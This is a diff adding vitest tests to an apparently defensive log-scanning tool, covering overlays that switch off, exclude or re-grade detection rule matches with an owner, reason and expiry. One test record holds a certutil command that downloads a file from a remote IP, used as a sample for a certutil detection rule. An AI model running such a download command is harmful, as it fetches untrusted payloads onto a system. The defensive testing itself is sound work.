@@ -1,3 +1,4 @@
+import { cpSync, writeFileSync } from 'node:fs'
 import { join } from 'node:path'
 import { gzipSync } from 'node:zlib'
 import { expect, test } from 'vitest'
@@ -101,6 +102,72 @@ test('--level leaves out what is below', async () => {
   const dir = folderOf({ ...rules, log: lines(flat('cmd.exe', 1), flat('cmd.exe', 2)) })
   const { out } = await scan(join(dir, 'log'), '--rules', join(dir, 'rules'), '--level', 'medium')
   expect(out).toContain('2 matches of 1 rules')
+})
+
+/** A repository whose overlays tune the rules above, with those rules as a pack of it. */
+async function tunedContent(...overlays: readonly string[]) {
+  const dir = folderOf({
+    log: lines(flat('cmd.exe', 1), flat('cmd.exe', 2)),
+    ...Object.fromEntries(
+      overlays.map((text, index) => [
+        `rules/overlays/o${index}.yaml`,
+        `id: o${index}\ntitle: Ours ${index}\nowner: endpoint\nreason: the deployment tool\n${text}`,
+      ]),
+    ),
+  })
+  cpSync(content, dir, { recursive: true })
+  const source = folderOf({ 'office.yml': rules['rules/office.yml'], LICENSE: 'Do what you like.\n' })
+  const { exitCode } = await gitsoc('rules', 'add', `office@${source}`, '--content', dir)
+  expect(exitCode).toBe(0)
+  return dir
+}
+
+const tunedScan = (dir: string, ...args: readonly string[]) =>
+  gitsoc('rules', 'scan', join(dir, 'log'), '--content', dir, '--json', ...args)
+const byId = 'rules: { id: [10000000-0000-4000-8000-000000000000] }\n'
+
+test.each<[string, string, readonly string[]]>([
+  ['an id', byId, ['rules/detection/packs/office']],
+  ['a pack', 'rules: { pack: office }\n', ['rules/detection/packs/office']],
+  ['a path', 'rules: { path: "rules/detection/packs/**" }\n', ['rules/detection/packs/office']],
+])(
+  'an overlay over %s withholds matches, which are counted with who, why and until when',
+  async (_name, which, from) => {
+    const dir = await tunedContent(`${which}expires: 2999-01-01\ndisable: true\n`)
+    const { json, exitCode } = await tunedScan(dir, '--rules', ...from.map((path) => join(dir, path)))
+    expect(json()).toMatchObject({ matches: 0, matched: [], withheld: [{ overlay: 'o0', events: 2 }] })
+    expect(JSON.stringify(json())).toContain(
+      'is switched off until 2999-01-01 by \\"Ours 0\\" of endpoint: the deployment tool',
+    )
+    expect(exitCode).toBe(0)
+    const raw = await tunedScan(dir, '--no-overlays', '--rules', ...from.map((path) => join(dir, path)))
+    expect(raw.json()).toMatchObject({ matches: 2, withheld: [] })
+  },
+)
+
+test('an overlay may exclude events, which correlations then do not count, and change a severity', async () => {
+  const dir = await tunedContent(
+    `${byId}expires: 2999-01-01\nexclude: { EventTime|endswith: '08:00:02.000Z' }\n`,
+    `${byId}expires: 2999-01-01\nseverity: low\n`,
+  )
+  const both = folderOf(rules)
+  const { out, json } = await tunedScan(dir, '--rules', both)
+  expect(JSON.parse(out.split('\n')[0] ?? '')).toMatchObject({ event: 1, level: 'low', overlay: /./ })
+  expect(json()).toMatchObject({ matches: 1, withheld: [{ overlay: 'o0', events: 1 }] })
+  expect((await tunedScan(dir, '--no-overlays', '--rules', both)).json()).toMatchObject({ matches: 3 })
+})
+
+test('an overlay that is over changes nothing, and one over an own rule holds without --rules', async () => {
+  const over = await tunedContent(`${byId}expires: 2026-01-01\ndisable: true\n`)
+  const pack = join(over, 'rules/detection/packs/office')
+  expect((await tunedScan(over, '--rules', pack)).json()).toMatchObject({ matches: 2, withheld: [] })
+  const own = await tunedContent(
+    'rules: { path: "rules/detection/win_certutil*" }\nexpires: 2999-01-01\ndisable: true\n',
+  )
+  const record = { ...flat('certutil.exe', 1), CommandLine: 'certutil -urlcache -f http://198.51.100.7/a a.exe' }
+  writeFileSync(join(own, 'log'), lines(record))
+  expect((await tunedScan(own, '--no-overlays')).json()).toMatchObject({ matches: 1 })
+  expect((await tunedScan(own)).json()).toMatchObject({ matches: 0, withheld: [{ overlay: 'o0', events: 1 }] })
 })
 
 test('records that cannot be read are counted and named, and files that break off as well', async () => {
